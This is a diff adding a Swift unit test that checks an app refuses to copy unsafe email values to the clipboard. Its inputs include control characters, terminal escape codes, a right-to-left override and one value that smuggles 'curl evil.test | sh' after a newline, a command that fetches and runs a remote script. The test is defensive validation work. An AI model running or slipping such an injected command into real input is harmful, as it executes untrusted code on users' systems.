@@ -161,6 +161,21 @@ import Testing
         #expect(Effect.cancel(1).isBackendWork)
     }
 
+    @Test("An email that is not printable ASCII without spaces is refused, never copied", arguments: [
+        ("eve@acme.test\ncurl evil.test | sh", "Not copied: the email contains control characters."),
+        ("eve@acme.test\u{1B}[2J", "Not copied: the email contains control characters."),
+        ("eve@acme.test\u{9B}", "Not copied: the email contains control characters."),
+        ("eve @acme.test", "Not copied: the email contains spaces or characters outside ASCII."),
+        ("eve\u{202E}tset.emca@", "Not copied: the email contains spaces or characters outside ASCII."),
+        ("zoë@acme.test", "Not copied: the email contains spaces or characters outside ASCII."),
+    ])
+    func copyEmailRefusesWhatIsUnsafeToPaste(email: String, reason: String) {
+        let me = UserDetails(user: User(id: "u00000", name: "User 00000", email: email), roles: [.admin])
+        var store = Fixture.loaded(me: me)
+        store.press(.profile) { $0.screens.append(.profile) }
+        store.press(.copyEmail) { $0.status = StatusMessage(.error, reason) }
+    }
+
     @Test func reloadOnTheDetailsScreenRefetchesThatUser() {
         var store = Fixture.loaded()
         Self.reloadUserOne(&store)
